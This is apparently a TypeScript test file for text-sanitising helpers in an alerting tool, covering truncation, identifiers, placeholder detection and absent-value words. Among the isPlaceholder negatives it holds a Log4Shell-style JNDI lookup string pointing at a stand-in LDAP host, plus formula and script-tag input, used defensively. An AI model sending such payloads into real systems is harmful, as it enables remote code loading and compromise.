import fc from 'fast-check'
import { expect, test } from 'vitest'
import {
  CUT_MARK,
  cut,
  isAbsent,
  isPlaceholder,
  oneLine,
  storable,
  storableIdentifier,
  textOf,
} from './text.ts'

const anyText = fc.string({ unit: 'binary', maxLength: 400 })

test('storable replaces NUL and lone surrogates with U+FFFD, and keeps everything else', () => {
  expect(storable('a\0b\uD800c\uDC00d')).toBe('a\uFFFDb\uFFFDc\uFFFDd')
  expect(storable('=HYPERLINK("x")\n<script>😀\u0001')).toBe('=HYPERLINK("x")\n<script>😀\u0001')
})

test('cut keeps a text within its limit, and ends a longer one with the mark without splitting a pair', () => {
  expect(cut('x'.repeat(500), 500)).toEqual({ text: 'x'.repeat(500), shortened: false })
  fc.assert(
    fc.property(anyText, fc.integer({ min: 20, max: 300 }), (raw, limit) => {
      const text = storable(raw)
      const result = cut(text, limit)
      expect([...result.text].length).toBeLessThanOrEqual(limit)
      expect(result.text.isWellFormed()).toBe(true)
      expect(result.shortened).toBe([...text].length > limit)
      if (result.shortened) expect(result.text.endsWith(CUT_MARK)).toBe(true)
      else expect(result.text).toBe(text)
    }),
  )
})

test('a character counts as a Unicode code point, as in the REST API', () => {
  const faces = (count: number) => '😀'.repeat(count)
  expect(cut(faces(500), 500)).toEqual({ text: faces(500), shortened: false })
  expect(cut(faces(501), 500)).toEqual({ text: faces(500 - CUT_MARK.length) + CUT_MARK, shortened: true })
  expect(storableIdentifier(faces(200))).toEqual({ text: faces(200), shortened: false })
  expect(storableIdentifier(faces(201))).toMatchObject({ shortened: true })
})

test('different identifiers stay different, however long or odd', () => {
  const long = 'x'.repeat(400)
  const ids = [long, `${long}y`, `${long}z`, 'a\0', 'a\uFFFD', 'a\uD800', 'a\uDC00', 'a']
  expect(new Set(ids.map((id) => storableIdentifier(id).text)).size).toBe(ids.length)
  for (const id of ids) {
    const { text } = storableIdentifier(id)
    expect([...text].length).toBeLessThanOrEqual(200)
    expect(text).toBe(storable(text))
  }
  expect(storableIdentifier('id-1')).toEqual({ text: 'id-1', shortened: false })
})

test('textOf turns strings and finite numbers into text, and nothing else', () => {
  expect(['x', '', 7, 1.5, 9007199254740993n].map(textOf)).toEqual(['x', '', '7', '1.5', '9007199254740993'])
  for (const value of [null, undefined, true, {}, ['x'], Number.NaN, Number.POSITIVE_INFINITY]) {
    expect(textOf(value)).toBeNull()
  }
})

test('oneLine replaces line breaks and the white space around them with one space', () => {
  const spaces = ' '.repeat(2000)
  expect(oneLine(`a${spaces}b`)).toBe(`a${spaces}b`)
  expect(oneLine(` a \r\n \n\t b\n${spaces}\n c `)).toBe('a b c')
})

test('isPlaceholder recognizes unfilled template variables, and no other texts with braces or dollars', () => {
  const unfilled = [
    '{EVENT.ID}',
    '$ALERT_ID',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the template of a sender, not ours.
    '${ALERT_CYCLE_KEY}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the template of AppDynamics, not ours.
    '${latestEvent.node.id}',
    '{{ json issueId }}',
    ' {{alert_name}} ',
    '*UNKNOWN*',
    '##ALERTID##',
    '%ALERTID%',
    '$service.name$',
    '$SERVICEDESC$',
    '%{[event][id]}',
    '%{alert.id}',
    "@{triggerBody()?['id']}",
    '<%= alert.id %>',
    '{alert_id}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the template of SolarWinds, not ours.
    '${N=Alerting;M=AlertID}',
  ]
  for (const text of unfilled) expect(isPlaceholder(text)).toBe(true)
  const texts = [
    'C$',
    '50%',
    '%20a%20',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack in an alert.
    '${jndi:ldap://192.0.2.4/a}',
    '$5',
    '{0EEDCC09-1111}',
    '{"a":1}',
    '{{ a }} is down',
    'UNKNOWN',
    '{}',
    'ADMIN$',
    '$5$',
    '## 5 alerts ##',
    5,
    null,
  ]
  for (const text of texts) expect(isPlaceholder(text)).toBe(false)
})

test('isAbsent recognizes words for an absent value, and no id', () => {
  const absent = [
    '',
    ' ',
    'N/A',
    'n/a',
    'NA',
    'null',
    '(null)',
    '<none>',
    'None',
    'undefined',
    'Unknown',
    '-',
    '--',
  ]
  for (const text of absent) expect(isAbsent(text)).toBe(true)
  const ids = ['0', '000', 'a', 'nano', 'none-1', 'unknown host', 'N/A-17', '-1', 'null:3']
  for (const text of ids) expect(isAbsent(text)).toBe(false)
})
